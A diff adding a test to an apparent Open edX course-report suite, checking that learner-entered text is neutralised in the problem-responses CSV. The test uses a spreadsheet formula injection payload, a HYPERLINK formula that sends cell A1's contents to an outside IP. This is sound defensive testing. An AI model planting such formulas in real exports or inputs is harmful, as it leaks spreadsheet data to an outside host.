@@ -108,3 +108,14 @@ def test_a_block_without_report_rows_of_its_own_reports_the_figures_it_noted(rep
     assert list(rows["ann"]) == [*LEAD, "last_status", "nominations"]
     assert rows["ann"]["completion"] == 1.0 and rows["ann"]["last_status"] == "submitted"
     assert rows["-bob"]["completion"] == 0.0 and rows["-bob"]["last_status"] == "draft"
+
+
+def test_text_chosen_by_learners_reaches_the_problem_responses_csv_neutralised(report_course):
+    """Open edX writes these values into its CSV as they are: a book title that is a formula must not be one."""
+    course = report_course
+    formula = '=HYPERLINK("http://203.0.113.1/?"&A1,"click")'
+    fixtures.ok(course.client("lifelong_bookshelf", "ann").call("recommend", {"title": formula, "author": "Mallory"}))
+    rows = dict(report(course, "lifelong_bookshelf", ["ann"]))
+    titles = rows["ann"]["titles"]
+    assert titles.startswith("'") and formula in titles, titles
+    assert all(not str(value).startswith(("=", "+", "-", "@")) for value in rows["ann"].values())
